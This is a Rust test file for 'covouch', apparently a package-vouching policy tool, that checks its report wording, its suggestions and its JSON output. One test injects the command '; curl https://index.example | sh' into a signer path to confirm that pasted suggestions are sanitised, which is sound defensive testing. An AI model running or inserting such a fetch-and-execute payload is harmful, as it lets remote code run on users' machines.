//! Reports: one clause, who is missing, until when, what to type; and the JSON that is a promise.

use covouch_core::evidence::{Known, Listing, ProjectStatus, Stated};
use covouch_policy::{Report, report::json};

use crate::world::{PYPI, World, alone, at, file, gap, listing, name, policy_text, signer, signer_with};

const WHEEL: &str = "requests-2.32.3-py3-none-any.whl";

fn team(admit: &str, refuse: &str) -> String {
    let people = [signer("security"), signer("platform"), signer("data")];
    let mut parties = vec![PYPI];
    parties.extend(people.iter().map(String::as_str));
    policy_text(&parties, admit, &format!("refuse = '{refuse}'"))
}

fn listed() -> World {
    let mut world = World::new();
    world.lists("pypi", &file(WHEEL), "2026-06-08T12:00:00Z");
    world
}

fn report(world: &World, text: &str) -> Report {
    world.report(&alone(text), &[file(WHEEL)])
}

fn reason(world: &World, text: &str) -> String {
    report(world, text).files.remove(0).reason
}

#[test]
fn sentences_say_what_is_there_and_what_is_not() {
    let two = team("pypi and at least 2 of (security, platform, data)", "vetoes or quarantined or yanked");
    assert_eq!(
        reason(listed().vouches("security", &file(WHEEL)), &two),
        "1 of 2 vouches: security said yes, platform and data have not"
    );
    assert_eq!(reason(&listed(), &two), "0 of 2 vouches: none of security, platform and data said yes");
    let some = |listing: Listing| {
        let mut world = World::new();
        world.says("pypi", &file(WHEEL), listing);
        reason(&world, &two)
    };
    let quarantined = Stated::Is(ProjectStatus::Quarantined);
    assert_eq!(some(Listing { status: quarantined, ..listing("2026-06-01") }), "quarantined on pypi");
    let yanked = Stated::Is(Some("it\nbreaks".into()));
    assert_eq!(some(Listing { yanked, ..listing("2026-06-01") }), "yanked: it breaks");
    assert_eq!(reason(listed().vetoes("data", &file(WHEEL)), &two), "vetoed by data (malware)");
    let waiting = team("pypi and (age >= 7d or security and data)", "vetoes");
    assert_eq!(
        reason(listed().vouches("security", &file(WHEEL)), &waiting),
        "uploaded 2 days ago, 7d needed, or data has not said yes"
    );
    assert_eq!(
        reason(listed().vouches("security", &file(WHEEL)), &team("security.audited and data", "vetoes")),
        "security said vouched, audited needed; data has not said yes"
    );
    assert_eq!(
        reason(&listed(), &team("pypi and sdist and data", "vetoes")),
        "not an sdist; data has not said yes"
    );
    let mut unread = listed();
    unread.unread("data").vouches("security", &file(WHEEL));
    assert_eq!(reason(&unread, &team("security and data", "yanked")), "not known: `data`: it did not answer");
    let mut gone = World::new();
    gone.has("pypi", "requests", Known::Unknown(gap("pypi")));
    assert_eq!(
        reason(&gone, &team("pypi", "vetoes")),
        "which index the project comes from is not known: `pypi`: it did not answer"
    );
}

#[test]
fn scores_say_how_far_they_reach() {
    let parties = [signer_with("security", "weight = 2"), signer_with("data", "weight = 1.5")];
    let text = policy_text(&[PYPI, &parties[0], &parties[1]], "score >= 3.5", "");
    let mut world = listed();
    world.vouches("security", &file(WHEEL));
    assert_eq!(reason(&world, &text), "score 2.0 of 3.5, without data");
    assert_eq!(report(&world, &text).files[0].missing, ["score 3.5 (now 2.0), from data (1.5)"]);
}

#[test]
fn what_is_missing_names_who_could_supply_it() {
    let missing = |admit: &str| {
        let mut world = listed();
        report(world.vouches("security", &file(WHEEL)), &team(admit, "vetoes")).files.remove(0).missing
    };
    assert_eq!(missing("pypi and at least 2 of (security, platform, data)"), ["any 1 of platform, data"]);
    assert_eq!(missing("security.audited and data"), ["security at audited", "data"]);
    assert_eq!(
        missing("age >= 7d or platform and data"),
        ["age >= 7d (on 2026-06-15T12:00:00Z) or platform and data"]
    );
}

#[test]
fn a_verdict_holds_until_the_first_moment_that_changes_it() {
    let until = |world: &World, text: &str| report(world, text).files.remove(0).until;
    let waiting = team("pypi and (age >= 7d or at least 2 of (security, platform, data))", "vetoes");
    assert_eq!(until(&listed(), &waiting), Some(at("2026-06-15T12:00:00Z")), "the age is reached");
    let vouched = team("security and data", "vetoes");
    let mut world = listed();
    let level = covouch_core::statement::VouchLevel::Vouched;
    world.vouches_at("security", &file(WHEEL), level, "2026-09-01").vouches_at(
        "data",
        &file(WHEEL),
        level,
        "2026-08-01",
    );
    assert_eq!(until(&world, &vouched), Some(at("2026-08-01")), "a vouch ends");
    world.vouches_at("data", &file(WHEEL), level, "2026-10-01");
    assert_eq!(until(&world, &vouched), Some(at("2026-09-01")), "the renewed one does not matter any more");
    assert_eq!(until(&listed(), &team("pypi", "vetoes")), None);
}

#[test]
fn suggestions_can_be_typed() {
    let waiting = team("pypi and (age >= 7d or at least 2 of (security, platform, data))", "vetoes");
    let file_report = report(listed().vouches("security", &file(WHEEL)), &waiting).files.remove(0);
    let said: Vec<String> = file_report.suggest.iter().map(ToString::to_string).collect();
    assert_eq!(said[0], "wait until 2026-06-15T12:00:00Z: `age >= 7d` is met then");
    assert_eq!(said[1], "covouch vouch requests==2.32.3 --to trust/ --key …");
    assert!(matches!(
        &file_report.suggest[1],
        covouch_policy::Suggestion::Vouch { parties, .. } if *parties == [name("platform"), name("data")]
    ));
    // The waiver snippet is a table of a policy.
    let with_waiver = format!("{waiting}\n{}", said[2]);
    assert_eq!(crate::world::policy(&with_waiver).waiver_count(), 1, "{with_waiver}");
}

#[test]
fn a_suggestion_is_safe_to_paste() {
    let ada = signer("ada").replace("trust/", "trust/; curl https://index.example | sh");
    let text = policy_text(&[PYPI, &ada, &signer("bob")], "ada and bob", "");
    let said: Vec<String> =
        report(&listed(), &text).files[0].suggest.iter().map(ToString::to_string).collect();
    assert_eq!(said[0], "covouch vouch requests==2.32.3 --to … --key …");
}

#[test]
fn nobody_is_told_how_to_let_in_what_is_refused() {
    let refused = report(listed().vetoes("data", &file(WHEEL)), &team("pypi", "vetoes")).files.remove(0);
    assert!(refused.suggest.is_empty() && refused.missing.is_empty());
    let objects: Vec<_> = refused.parties.iter().filter(|party| party.veto.is_some()).collect();
    assert!(matches!(objects.as_slice(), [party] if party.name == name("data")), "{objects:?}");
}

#[test]
fn the_json_is_a_promise() {
    let text = team("pypi and at least 2 of (security, platform, data)", "vetoes");
    let other = file("idna-3.7-py3-none-any.whl");
    let mut world = listed();
    world.lists("pypi", &other, "2026-06-01").vouches("security", &file(WHEEL));
    world.vouches("security", &other).vouches("data", &other);
    let report = world.report(&alone(&text), &[file(WHEEL), other]);
    insta::assert_json_snapshot!(json::Report::from(&report));
}

#[test]
fn the_same_world_gives_the_same_report_in_any_order() {
    let text = team("pypi and at least 2 of (security, platform, data)", "at least 2 vetoes");
    // The same statements, read in another order.
    let mut world = listed();
    world.vouches("security", &file(WHEEL)).vouches("data", &file(WHEEL)).vetoes("platform", &file(WHEEL));
    let mut turned = listed();
    turned.vetoes("platform", &file(WHEEL)).vouches("data", &file(WHEEL)).vouches("security", &file(WHEEL));
    let text_of = |world: &World| serde_json::to_string(&json::Report::from(&report(world, &text))).unwrap();
    assert_eq!(text_of(&world), text_of(&turned));
}
